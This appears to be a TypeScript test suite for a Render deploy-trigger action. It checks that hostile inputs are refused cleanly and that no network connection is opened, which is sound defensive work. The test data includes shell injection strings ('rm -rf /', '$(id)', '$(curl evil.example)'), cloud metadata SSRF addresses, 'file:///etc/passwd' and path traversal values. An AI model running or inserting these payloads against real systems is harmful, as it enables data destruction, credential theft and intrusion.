import { assertRefused } from '../../packages/harness/src/hostile';
import { service, startRender, trigger } from './fixture';

/**
 * Hostile inputs (issue 12): wrong types, unknown enums, path traversal, metadata and plain-http endpoints,
 * shell metacharacters and newlines, 100 KB values, prototype keys, a secret placed in a non-secret input.
 * Each fails cleanly with ONE line naming the input, no stack, and no connection at all: the emulator
 * sees no request, and the harness's network guard records every connection the bundle opens (refusing
 * any outside loopback, so a regression fails here instead of reaching another machine).
 */
const big = 'a'.repeat(100_000);
const cases: [string, Record<string, string>, string][] = [
  ['path traversal in service-id', { 'api-key': '{key}', 'service-id': 'srv-abc1/../../owners' }, 'service-id'],
  ['an encoded slash in service-id', { 'api-key': '{key}', 'service-id': 'srv-abc1%2F..%2Fx' }, 'service-id'],
  ['a newline in service-id', { 'api-key': '{key}', 'service-id': 'srv-abc123\nsrv-other1' }, 'service-id'],
  ['a 100 KB service-id', { 'api-key': '{key}', 'service-id': `srv-${big}` }, 'service-id'],
  [
    'a metadata api-url',
    { 'api-key': '{key}', 'service-id': '{srv}', 'api-url': 'http://169.254.169.254/v1' },
    'api-url',
  ],
  [
    'metadata.google.internal as api-url',
    { 'api-key': '{key}', 'service-id': '{srv}', 'api-url': 'https://metadata.google.internal/v1' },
    'api-url',
  ],
  [
    'the EC2 IPv6 metadata address',
    { 'api-key': '{key}', 'service-id': '{srv}', 'api-url': 'https://[fd00:ec2::254]/v1' },
    'api-url',
  ],
  [
    'a metadata address written in hex',
    { 'api-key': '{key}', 'service-id': '{srv}', 'api-url': 'http://0xA9FEA9FE/v1' },
    'api-url',
  ],
  [
    'a plain-http api-url',
    { 'api-key': '{key}', 'service-id': '{srv}', 'api-url': 'http://render.example/v1' },
    'api-url',
  ],
  ['a file: api-url', { 'api-key': '{key}', 'service-id': '{srv}', 'api-url': 'file:///etc/passwd' }, 'api-url'],
  [
    'a deploy hook on a metadata address',
    { 'deploy-hook-url': 'https://169.254.169.254/deploy/srv-abc123?key=k3y' },
    'deploy-hook-url',
  ],
  [
    'a 100 KB deploy hook',
    { 'deploy-hook-url': `https://api.render.com/deploy/srv-abc123?key=${big}` },
    'deploy-hook-url',
  ],
  [
    'a deploy hook with a newline',
    { 'deploy-hook-url': 'https://api.render.com/deploy/srv-abc123?key=k\nhttps://x.example' },
    'deploy-hook-url',
  ],
  ['a javascript: deploy hook', { 'deploy-hook-url': 'javascript:alert(1)' }, 'deploy-hook-url'],
  ['a 100 KB image', { 'deploy-hook-url': '{hook}', 'image-url': `ghcr.io/acme/${big}:1` }, 'image-url'],
  [
    'shell metacharacters in image-url',
    { 'deploy-hook-url': '{hook}', 'image-url': 'acme/api:1;rm -rf /' },
    'image-url',
  ],
  ['a newline in image-url', { 'deploy-hook-url': '{hook}', 'image-url': 'acme/api:1\nacme/other:2' }, 'image-url'],
  [
    'a command substitution in image-url',
    { 'deploy-hook-url': '{hook}', 'image-url': '$(curl evil.example)' },
    'image-url',
  ],
  [
    'an image with a URL scheme',
    { 'deploy-hook-url': '{hook}', 'image-url': 'https://ghcr.io/acme/api:1' },
    'image-url',
  ],
  ['shell metacharacters in commit', { 'deploy-hook-url': '{hook}', commit: 'abcdef1; rm -rf /' }, 'commit'],
  ['a command substitution in commit', { 'deploy-hook-url': '{hook}', commit: '$(id)' }, 'commit'],
  ['a 100 KB commit', { 'deploy-hook-url': '{hook}', commit: 'f'.repeat(100_000) }, 'commit'],
  [
    'a JSON prototype key as clear-cache',
    { 'api-key': '{key}', 'service-id': '{srv}', 'clear-cache': '{"__proto__":{}}' },
    'clear-cache',
  ],
  [
    '__proto__ as a duration',
    { 'api-key': '{key}', 'service-id': '{srv}', 'poll-interval': '__proto__' },
    'poll-interval',
  ],
  [
    'constructor as a boolean',
    { 'api-key': '{key}', 'service-id': '{srv}', 'cancel-on-timeout': 'constructor' },
    'cancel-on-timeout',
  ],
  ['wait that is not a boolean', { 'api-key': '{key}', 'service-id': '{srv}', wait: 'yes please' }, 'wait'],
  ['a negative timeout', { 'api-key': '{key}', 'service-id': '{srv}', timeout: '-5m' }, 'timeout'],
  ['a timeout of years', { 'api-key': '{key}', 'service-id': '{srv}', timeout: '99999h' }, 'timeout'],
  [
    'health-retries in exponent form',
    { 'api-key': '{key}', 'service-id': '{srv}', 'health-path': '/h', 'health-retries': '1e3' },
    'health-retries',
  ],
  [
    'health-status that is not a number',
    { 'api-key': '{key}', 'service-id': '{srv}', 'health-path': '/h', 'health-status': 'ok' },
    'health-status',
  ],
  [
    'a metadata health-url',
    { 'api-key': '{key}', 'service-id': '{srv}', 'health-url': 'http://169.254.169.254/latest/meta-data' },
    'health-url',
  ],
  [
    'an ftp health-url',
    { 'api-key': '{key}', 'service-id': '{srv}', 'health-url': 'ftp://files.example/h' },
    'health-url',
  ],
  [
    'a health-path with a newline',
    { 'api-key': '{key}', 'service-id': '{srv}', 'health-path': '/ok\n/evil' },
    'health-path',
  ],
  ['a 100 KB health-path', { 'api-key': '{key}', 'service-id': '{srv}', 'health-path': `/${big}` }, 'health-path'],
  ['a 100 KB api-key', { 'api-key': `rnd_${big}`, 'service-id': '{srv}' }, 'api-key'],
  ['the API key pasted into service-id', { 'api-key': '{key}', 'service-id': '{key}' }, 'service-id'],
  ['the hook pasted into image-url', { 'deploy-hook-url': '{hook}', 'image-url': '{hook}' }, 'image-url'],
];

describe('trigger-render-hook hostile inputs', () => {
  it('has at least 25 cases', () => expect(cases.length).toBeGreaterThanOrEqual(25));

  it.concurrent.each(cases)('refuses %s with one line, no stack and no connection', async (_, given, input) => {
    const render = await startRender();
    try {
      const setup = service(render);
      const fill = (value: string) =>
        value.replace('{hook}', setup.hookUrl).replace('{key}', render.apiKey).replace('{srv}', setup.serviceId);
      const inputs = Object.fromEntries(Object.entries(given).map(([name, value]) => [name, fill(value)]));
      const result = await trigger(setup, { 'api-url': render.apiUrl, ...inputs }, { networkGuard: true });
      assertRefused(result, input);
      expect(result.errors[0]).toMatch(new RegExp(`^Input "${input}": [^\\n]+$`));
      expect(result.errors[0].length).toBeLessThan(400);
      expect(render.requests).toEqual([]);
      expect(result.summary).toContain(`**Error:** Input &quot;${input}&quot;: `);
    } finally {
      await render.close();
    }
  });
});
